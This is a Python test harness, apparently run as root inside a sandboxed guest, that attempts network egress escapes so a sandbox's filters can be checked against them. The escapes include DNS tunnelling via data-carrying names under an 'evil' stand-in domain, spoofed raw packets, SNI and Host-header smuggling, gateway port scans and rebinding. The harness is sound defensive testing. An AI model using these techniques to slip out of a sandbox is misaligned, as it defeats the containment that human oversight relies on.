"""What is tried in the guest, as root: one order a line on standard input, one answer a line on standard output.

The same orders are carried out on the host, without a sandbox, to see that the sinks notice each technique. Needs no module that a small Debian lacks.
"""

import errno
import hashlib
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

DOMAIN = "testworld.net"
OUTSIDE = "1.1.1.1"
OUTSIDE6 = "2606:4700:4700::1111"
GATEWAY = "100.64.0.1"
PRIVATE = ["10.0.0.1", "10.6.6.6", "172.16.0.1", "192.168.1.1", "169.254.169.254", "168.63.129.16", "198.18.200.200", "45.80.0.2", "45.80.0.1"]
CHAFF = b"\x11" * 32
# The usual rules hide `*.pem` in a workspace.
CERTIFICATE = "root.crt"


def run(*words, limit=30):
    try:
        done = subprocess.run(words, capture_output=True, timeout=limit, stdin=subprocess.DEVNULL)
    except subprocess.TimeoutExpired:
        return "", 124
    return done.stdout.decode(errors="replace").strip(), done.returncode


def curl(*words, limit=30):
    return run("curl", "-sS", "-m", str(limit - 2), *words, limit=limit)


def connects(address, port, limit=2.0):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family) as stream:
        stream.settimeout(limit)
        return stream.connect_ex((address, port)) == 0


def udp(targets, payload=CHAFF, wait=0.5):
    """Whether one of them answers."""
    answered = False
    for address, port in targets:
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as sender:
            sender.settimeout(wait / len(targets))
            try:
                sender.sendto(payload, (address, port))
                answered |= bool(sender.recv(2048))
            except OSError:
                pass
    return answered


def question(name, kind=1):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def resolver():
    with open("/etc/resolv.conf") as lines:
        return next(line.split()[1] for line in lines if line.startswith("nameserver"))


def raw(address, protocol, payload):
    """Sends one packet of any protocol; whether something comes back."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_RAW, protocol) as sender:
        sender.settimeout(0.5)
        try:
            sender.sendto(payload, (address, 0))
            return address in str(sender.recvfrom(2048)[1])
        except OSError:
            return False


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return 0xFFFF & ~(total + (total >> 16))


def ping(address):
    echo = struct.pack("!BBHHH", 8, 0, 0, 7, 1) + CHAFF
    echo = echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:]
    return raw(address, 1, echo)


def ping6(address):
    return raw(address, 58, struct.pack("!BBHHH", 128, 0, 0, 7, 1) + CHAFF)


def all_protocols():
    for number in range(256):
        if number not in (1, 6, 17, 255):
            try:
                with socket.socket(socket.AF_INET, socket.SOCK_RAW, number) as sender:
                    sender.sendto(CHAFF, (OUTSIDE, 0))
            except OSError:
                pass
    return False


def spoofed(fragment=0, to=OUTSIDE):
    """A datagram with a source that is not the guest's, or a first fragment."""
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 60, 1, fragment, 64, 17, 0, socket.inet_aton("45.80.0.9"), socket.inet_aton(to))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
        try:
            sender.sendto(head + struct.pack("!HHHH", 4000, 53, 40, 0) + CHAFF, (to, 0))
        except OSError:
            pass
    return False


def looks_up(name):
    try:
        return bool(socket.getaddrinfo(name, 443))
    except OSError:
        return False


def encoded_labels():
    """What a tunnel over DNS sends: each name carries data."""
    names = [f"{hashlib.sha256(bytes([n])).hexdigest()[:48]}.t.evil.{DOMAIN}" for n in range(40)]
    return any([looks_up(name) for name in names])


def odd_types():
    server = resolver()
    asked = [question(f"k{kind}.t.evil.{DOMAIN}", kind) for kind in (2, 5, 10, 15, 16, 28, 33, 64, 65, 255)]
    for query in asked:
        udp([(server, 53)], query, wait=0.2)
    return False


def other_ports():
    """Everything low on the gateway but its resolver."""
    ports = [port for port in range(1, 1025) if port != 53]
    return any([connects(GATEWAY, port, 0.5) for port in ports])


def body(*words):
    return "origin" in curl(*words)[0]


ATTACKS = {
    "ping": lambda: ping(OUTSIDE),
    "ping of an allowed origin": lambda: ping("93.184.216.10"),
    "ping6": lambda: ping6(OUTSIDE6),
    "udp dns to 8.8.8.8": lambda: udp([("8.8.8.8", 53)], question(f"leak.evil.{DOMAIN}")),
    "tcp dns to 8.8.8.8": lambda: connects("8.8.8.8", 53),
    "dns over tls": lambda: connects("8.8.8.8", 853),
    "doh to an address": lambda: body("-k", f"https://{OUTSIDE}/dns-query"),
    "http to an address": lambda: body(f"http://{OUTSIDE}/"),
    "address of an allowed origin": lambda: body("-k", "https://93.184.216.10/"),
    "curl --resolve": lambda: body("-k", "--resolve", f"good.{DOMAIN}:443:93.184.216.66", f"https://good.{DOMAIN}/"),
    "another name": lambda: body("-k", f"https://evil.{DOMAIN}/"),
    "another scheme": lambda: body(f"http://good.{DOMAIN}/"),
    "another port": lambda: body("-k", f"https://good.{DOMAIN}:8443/"),
    "raw ipv6": lambda: connects(OUTSIDE6, 443),
    "udp over ipv6": lambda: udp([(OUTSIDE6, 53), (OUTSIDE6, 443)]),
    "quic, ntp, stun, mdns": lambda: udp([(OUTSIDE, port) for port in (80, 123, 443, 784, 853, 1900, 3478, 5353, 51820)]),
    "private addresses": lambda: any([connects(address, port, 1) for address in PRIVATE for port in (80, 443)]),
    "private addresses by udp": lambda: udp([(address, 53) for address in PRIVATE]),
    "all protocols": all_protocols,
    "another's source": spoofed,
    "fragments": lambda: spoofed(fragment=0x2000),
    "look-up of another name": lambda: looks_up(f"evil.{DOMAIN}"),
    "names that carry data": encoded_labels,
    "odd types of records": odd_types,
}
# These are about the gateway or an allowed connection, which the host does not have.
ONLY_IN_A_GUEST = {
    "host header": lambda: body("-H", f"Host: evil.{DOMAIN}", f"http://plain.{DOMAIN}/"),
    "absolute form": lambda: body("--request-target", f"http://evil.{DOMAIN}/", f"http://plain.{DOMAIN}/"),
    "another sni": lambda: body("-k", "--connect-to", f"evil.{DOMAIN}:443:good.{DOMAIN}:443", f"https://evil.{DOMAIN}/"),
    "no sni": lambda: body("-k", f"https://{socket.gethostbyname(f'good.{DOMAIN}')}/"),
    "the gateway as a proxy": lambda: body("-x", f"http://{GATEWAY}:8080", f"http://evil.{DOMAIN}/"),
    "other ports of the gateway": other_ports,
}


def attack(name):
    return {"came_up": bool((ATTACKS | ONLY_IN_A_GUEST)[name]())}


def allowed():
    return {
        "https": body("--cacert", CERTIFICATE, f"https://good.{DOMAIN}/"),
        "http": body(f"http://plain.{DOMAIN}/"),
    }


def rebinding(rounds):
    codes = [curl("-o", "/dev/null", "-w", "%{http_code}", f"http://flip.{DOMAIN}/")[0] for _ in range(rounds)]
    return {"came_up": codes.count("200"), "rounds": len(codes)}


def flood(attempts):
    """Connections to where none may go and to an allowed origin in turn, as many at once as there are descriptors."""
    targets = [(OUTSIDE, 443), (socket.gethostbyname(f"good.{DOMAIN}"), 443)]
    held, opened = [], 0
    for number in range(attempts):
        stream = socket.socket()
        stream.setblocking(False)
        if stream.connect_ex(targets[number % 2]) == errno.EINPROGRESS:
            opened += 1
        held.append(stream)
        if len(held) >= 800:
            for one in held:
                one.close()
            held.clear()
    return {"attempts": opened}


def parallel(count):
    results = []

    def one():
        try:
            with socket.create_connection((f"plain.{DOMAIN}", 80), timeout=120) as stream:
                gate.wait(timeout=150)
                stream.sendall(f"GET / HTTP/1.1\r\nHost: plain.{DOMAIN}\r\nConnection: close\r\n\r\n".encode())
                answer = b""
                while piece := stream.recv(4096):
                    answer += piece
                results.append(b"origin" in answer)
        except (OSError, threading.BrokenBarrierError):
            results.append(False)

    # Nobody asks before all are connected.
    gate = threading.Barrier(count)
    threads = [threading.Thread(target=one) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return {"answered": results.count(True), "of": count}


def transfer(mebibytes):
    size, url = mebibytes << 20, f"https://good.{DOMAIN}"
    begin = time.monotonic()
    got, _ = curl("--cacert", CERTIFICATE, "-o", "/dev/null", "-w", "%{size_download}", f"{url}/bytes/{size}", limit=200)
    down = time.monotonic() - begin
    with open("/tmp/upload", "wb") as file:
        file.truncate(size)
    begin = time.monotonic()
    sent, _ = curl("--cacert", CERTIFICATE, "-H", "Expect:", "-X", "POST", "-T", "/tmp/upload", f"{url}/upload", limit=200)
    os.unlink("/tmp/upload")
    return {"down": got == str(size), "up": sent == str(size), "seconds": [round(down, 1), round(time.monotonic() - begin, 1)]}


def secured(name):
    context = ssl.create_default_context(cafile=CERTIFICATE)
    return context.wrap_socket(socket.create_connection((name, 443), timeout=60), server_hostname=name)


def websocket(messages):
    name, mask = f"good.{DOMAIN}", b"mask"
    with secured(name) as stream:
        head = f"GET /ws HTTP/1.1\r\nHost: {name}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        stream.sendall(f"{head}Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n".encode())
        lines = stream.makefile("rb")
        switched = b" 101 " in lines.readline() and b"Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n" in iter(lines.readline, b"\r\n")
        while switched and lines.peek(1)[:1] != b"\x81":
            if lines.readline() == b"\r\n":
                break
        echoed = 0
        for number in range(messages):
            text = f"message {number}".encode()
            masked = bytes(byte ^ mask[at % 4] for at, byte in enumerate(text))
            stream.sendall(bytes([0x81, 0x80 | len(text)]) + mask + masked)
            echoed += lines.read(2 + len(text))[2:] == text
    return {"switched": switched, "echoed": echoed}


def events():
    name = f"good.{DOMAIN}"
    with secured(name) as stream:
        stream.sendall(f"GET /events HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
        times = [time.monotonic() for line in stream.makefile("rb") if line.startswith(b"data: ")]
    return {"events": len(times), "seconds": times[-1] - times[0] if times else 0}


def git(mebibytes):
    """Clone, push of what does not compress, and a fetch that brings it to the first clone."""
    script = f"""set -e
rm -rf /tmp/git && mkdir /tmp/git && cd /tmp/git
url=https://good.{DOMAIN}/git/project.git
git clone -q $url one
git clone -q $url two
cd two
head -c {mebibytes << 20} /dev/urandom > data
git add data && git commit -qm data
git push -q origin HEAD
pushed=$(git rev-parse HEAD)
cd ../one
git fetch -q origin
test "$(git rev-parse FETCH_HEAD)" = "$pushed"
git checkout -q FETCH_HEAD && cmp data ../two/data && echo same"""
    settings = {"GIT_SSL_CAINFO": os.path.abspath(CERTIFICATE), "HOME": "/tmp", "GIT_CONFIG_COUNT": "1"}
    # In one piece, not chunked: the origin is a simple one.
    settings |= {"GIT_CONFIG_KEY_0": "http.postBuffer", "GIT_CONFIG_VALUE_0": "200000000"}
    settings |= {f"GIT_{who}_{what}": "guest@localhost" for who in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")}
    done = subprocess.run(["sh", "-c", script], capture_output=True, text=True, timeout=250, env=os.environ | settings)
    return {"said": done.stdout.strip(), "errors": done.stderr[-600:]}


ORDERS = {"websocket": websocket, "events": events, "git": git, "resolves": lambda name: {"resolves": looks_up(name)}, "attack": attack, "allowed": allowed, "rebinding": rebinding, "flood": flood, "parallel": parallel, "transfer": transfer}

if __name__ == "__main__":
    for line in sys.stdin:
        order = json.loads(line)
        try:
            answer = ORDERS[order["order"]](*order.get("with", []))
        except Exception as error:
            answer = {"error": f"{type(error).__name__}: {error}"}
        print(json.dumps(answer), flush=True)
